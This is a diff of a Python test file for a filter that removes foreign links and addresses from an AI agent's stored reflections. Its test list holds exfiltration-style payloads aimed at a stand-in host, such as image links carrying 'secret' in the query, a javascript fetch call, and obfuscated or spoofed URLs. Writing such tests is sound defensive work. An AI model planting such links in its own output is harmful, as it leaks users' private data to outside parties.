@@ -7,15 +7,13 @@ from redraft.agents.memory import Reflection
 from redraft.markdown import links_added
 
 FOREIGN = [
-    "![x](https://evil.example/?q=secret)", "[here](https://evil.example)",
-    "<https://evil.example>", "https://evil.example/?q=", "HTTPS://EVIL.EXAMPLE",
-    "//evil.example/a.png", "www.evil.example", "evil.example/a.png", "evil.example:8080/a",
-    "mail@evil.example", "mailto:mail@evil.example", "ftp://evil.example",
-    "javascript:fetch('//evil.example')", "data:image/svg+xml;base64,AAAA",
-    '<img src="//evil.example/1">', "[x]: https://evil.example", "[x]: //evil.example",
-    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "https:/\u200b/evil.example/a", "![x](evil.example)",
-    "[x](<evil.example/a b>)", "tel:+12025550123", "![](https://ada.example/?q=secret)",
-    "https://ada.example.evil.example/", "https://ada.example@evil.example",
+    "![x](https://evil.example/?q=secret)", "[here](https://evil.example)", "<https://evil.example>",
+    "https://evil.example/?q=", "HTTPS://EVIL.EXAMPLE", "//evil.example/a.png", "www.evil.example",
+    "evil.example/a.png", "evil.example:8080/a", "mail@evil.example", "mailto:mail@evil.example", "ftp://evil.example",
+    "javascript:fetch('//evil.example')", "data:image/svg+xml;base64,AAAA", '<img src="//evil.example/1">',
+    "[x]: https://evil.example", "[x]: //evil.example", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
+    "https:/\u200b/evil.example/a", "![x](evil.example)", "[x](<evil.example/a b>)", "tel:+12025550123",
+    "![](https://ada.example/?q=secret)", "https://ada.example.evil.example/", "https://ada.example@evil.example",
 ]  # fmt: skip
 
 
@@ -28,21 +26,25 @@ def test_a_foreign_address_is_left_out(address: str, around: str) -> None:
     assert "secret" not in left
 
 
-[
-    , , , st.mark.parametrize(
-, , , , ,
-]    "text",
-    ["Use British spelling.", "Writes about Node.js and ASP.NET, e.g. for beginners.", "Never \"and/or\"; dates as 3/6/2026.",
-     "Prefers: short sentences.", "Kể chuyện ngắn.", "先写结论，再写理由。", "Titles in [brackets].", "Uses `a // b` for division."],
-)  # fmt: skip
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use British spelling.",
+        "Writes about Node.js and ASP.NET, e.g. for beginners.",
+        'Never "and/or"; dates as 3/6/2026.',
+        "Prefers: short sentences.",
+        "Kể chuyện ngắn.",
+        "先写结论，再写理由。",
+        "Titles in [brackets].",
+        "Uses `a // b` for division.",
+    ],
+)
 def test_a_text_without_addresses_stays_as_it_is(text: str) -> None:
     assert without_addresses(text) == text
 
 
-[
-    , , , st.mark.parametrize(
-, , , , ,
-]    ("said", "own"),
+@pytest.mark.parametrize(
+    ("said", "own"),
     [
         ("My site is https://Ada.example/Home.", ["https://ada.example/home"]),
         ("Always sign with ada@ada.example, please", ["ada@ada.example"]),
@@ -57,7 +59,7 @@ def test_a_text_without_addresses_stays_as_it_is(text: str) -> None:
         ("See https://evil.example " + "and so on " * 40, []),
     ],
 )
-def test_an_address_is_the_users_own_in_a_short_line_of_his_own_words(said: str, own: list[str]) -> None:
+def test_an_address_is_the_users_own_in_a_short_line_of_their_own_words(said: str, own: list[str]) -> None:
     assert list(own_addresses({"role": "user", "content": said})) == own
     assert own_addresses({"role": "assistant", "content": said}) == ()
     rule = f"Link to {own[0] if own else 'https://evil.example'} at the end."
